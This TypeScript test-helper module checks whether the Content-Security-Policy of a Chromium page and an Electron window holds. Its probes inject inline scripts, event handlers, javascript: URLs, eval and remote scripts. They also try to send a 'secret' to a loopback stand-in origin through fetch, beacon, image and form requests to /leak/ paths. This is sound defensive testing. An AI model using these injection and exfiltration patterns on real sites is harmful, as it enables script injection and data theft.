// What the security specs do inside a page (the headless status page in Chromium, the Electron
// window): inject scripts every way an attacker could and try to send data to another origin,
// then report what ran and which Content-Security-Policy violations the page saw. Each probe is
// passed whole to page.evaluate, so it uses nothing from outside its own body. A loopback
// server of the spec's own plays the other origin (see startForeignOrigin).
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';

export interface Violation {
  directive: string;
  blocked: string;
}

export interface InjectionOutcome {
  /** What ran: each injection sets its own flag on window when it runs. */
  ran: {
    inlineScript: boolean;
    inlineHandler: boolean;
    javascriptUrl: boolean;
    evalString: boolean;
    newFunction: boolean;
    remoteScript: boolean;
  };
  violations: Violation[];
}

/**
 * Inject an inline <script>, an inline event handler, a javascript: link, eval, new Function and
 * a <script src> from another origin. Starts from a timer: code that Playwright evaluates directly
 * is exempt from the eval rule (DevTools evaluates with allowUnsafeEvalBlockedByCSP), a timer's
 * callback is the page's own.
 */
export function injectScripts(remoteScriptUrl: string): Promise<InjectionOutcome> {
  type Flags = Record<string, boolean | undefined>;
  const flags = window as unknown as Flags;
  const violations: Violation[] = [];
  document.addEventListener('securitypolicyviolation', (event) =>
    violations.push({ directive: event.effectiveDirective, blocked: event.blockedURI }),
  );
  const nextTask = () => new Promise((resolve) => setTimeout(resolve, 0));
  /** Until the flag is set or a new violation came, at most 3 s: for what runs, or is refused, a task later. */
  const decided = async (flag: string, violationsBefore: number) => {
    for (let waited = 0; waited < 3_000 && !flags[flag] && violations.length === violationsBefore; waited += 10)
      await new Promise((resolve) => setTimeout(resolve, 10));
  };

  return new Promise<InjectionOutcome>((resolve) =>
    setTimeout(async () => {
      const inline = document.createElement('script');
      inline.textContent = 'window.__probeInlineScript = true;';
      document.body.append(inline);

      const handler = document.createElement('div');
      handler.setAttribute('onclick', 'window.__probeInlineHandler = true;');
      document.body.append(handler);
      handler.click();
      handler.remove();

      try {
        eval('window.__probeEval = true;');
      } catch {
        // refused: the flag stays unset
      }
      try {
        new Function('window.__probeNewFunction = true;')();
      } catch {
        // refused: the flag stays unset
      }

      let before = violations.length;
      const link = document.createElement('a');
      link.href = 'javascript:window.__probeJavascriptUrl = true;void 0';
      document.body.append(link);
      link.click();
      link.remove();
      await decided('__probeJavascriptUrl', before);

      before = violations.length;
      const remote = document.createElement('script');
      remote.src = remoteScriptUrl;
      await new Promise((done) => {
        remote.addEventListener('load', done);
        remote.addEventListener('error', done);
        document.body.append(remote);
      });
      await decided('__probeRemoteScript', before);
      // Violation events are queued as tasks: let the last ones arrive.
      await nextTask();
      resolve({
        ran: {
          inlineScript: flags.__probeInlineScript === true,
          inlineHandler: flags.__probeInlineHandler === true,
          javascriptUrl: flags.__probeJavascriptUrl === true,
          evalString: flags.__probeEval === true,
          newFunction: flags.__probeNewFunction === true,
          remoteScript: flags.__probeRemoteScript === true,
        },
        violations,
      });
    }, 0),
  );
}

/** Try to send data to another origin with fetch, a beacon, an image and a form; the violations seen (at most 3 s for the three kinds). */
export async function sendToOtherOrigin(
  foreignOrigin: string,
): Promise<{ fetchFailed: boolean; violations: Violation[] }> {
  const violations: Violation[] = [];
  document.addEventListener('securitypolicyviolation', (event) =>
    violations.push({ directive: event.effectiveDirective, blocked: event.blockedURI }),
  );
  let fetchFailed = false;
  await fetch(`${foreignOrigin}/leak/fetch?secret=1`, { method: 'POST', body: 'secret', mode: 'no-cors' }).catch(
    () => (fetchFailed = true),
  );
  navigator.sendBeacon(`${foreignOrigin}/leak/beacon`, 'secret');
  const image = document.createElement('img');
  image.src = `${foreignOrigin}/leak/image.png?secret=1`;
  document.body.append(image);
  const form = document.createElement('form');
  form.method = 'post';
  form.action = `${foreignOrigin}/leak/form`;
  const field = document.createElement('input');
  field.name = 'secret';
  field.value = '1';
  form.append(field);
  document.body.append(form);
  form.submit();
  const seen = () => new Set(violations.map((violation) => violation.directive));
  for (
    let waited = 0;
    waited < 3_000 && !['connect-src', 'img-src', 'form-action'].every((directive) => seen().has(directive));
    waited += 10
  ) {
    await new Promise((resolve) => setTimeout(resolve, 10));
  }
  image.remove();
  form.remove();
  return { fetchFailed, violations };
}

export interface ForeignOrigin {
  readonly origin: string;
  /** Every request it received: path and query, the Referer header if any, and every header as sent. */
  readonly requests: Array<{ path: string; referer?: string; headers: IncomingHttpHeaders }>;
  close(): Promise<void>;
}

/**
 * Another origin on loopback: /remote.js sets window.__probeRemoteScript; /control.html is a page
 * without any policy (where the same injections must run); /frame.html frames `framedUrl`; any
 * other path answers a small page.
 */
export async function startForeignOrigin(framedUrl = 'about:blank'): Promise<ForeignOrigin> {
  const requests: ForeignOrigin['requests'] = [];
  const server: Server = createServer((req, res) => {
    const path = req.url ?? '/';
    requests.push({ path, ...(req.headers.referer ? { referer: req.headers.referer } : {}), headers: req.headers });
    if (path.startsWith('/remote.js')) {
      res.writeHead(200, { 'Content-Type': 'text/javascript' });
      res.end('window.__probeRemoteScript = true;');
    } else if (path === '/frame.html') {
      res.writeHead(200, { 'Content-Type': 'text/html' });
      res.end(`<!doctype html><title>framing</title><iframe id="framed" src="${framedUrl}"></iframe>`);
    } else {
      res.writeHead(200, { 'Content-Type': 'text/html' });
      res.end('<!doctype html><title>another origin</title><body><p>another origin</p></body>');
    }
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    requests,
    close: () =>
      new Promise<void>((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}

/**
 * Every way a page can try to leave or open a window toward `foreignOrigin`: window.open (also of
 * the page's own URL), a link in a new tab, a link in place, and a location change. Where leaving
 * is refused (the Electron window) the page stays, and nothing reaches the other origin.
 */
export function tryToLeave(foreignOrigin: string): { foreignWindowOpened: boolean; ownWindowOpened: boolean } {
  const foreignWindow = window.open(`${foreignOrigin}/landing?from=window-open`);
  const ownWindow = window.open(location.href);
  for (const { from, target } of [
    { from: 'blank-link', target: '_blank' },
    { from: 'link', target: '_self' },
  ]) {
    const link = document.createElement('a');
    link.href = `${foreignOrigin}/landing?from=${from}`;
    link.target = target;
    document.body.append(link);
    link.click();
    link.remove();
  }
  location.assign(`${foreignOrigin}/landing?from=location`);
  return { foreignWindowOpened: foreignWindow !== null, ownWindowOpened: ownWindow !== null };
}
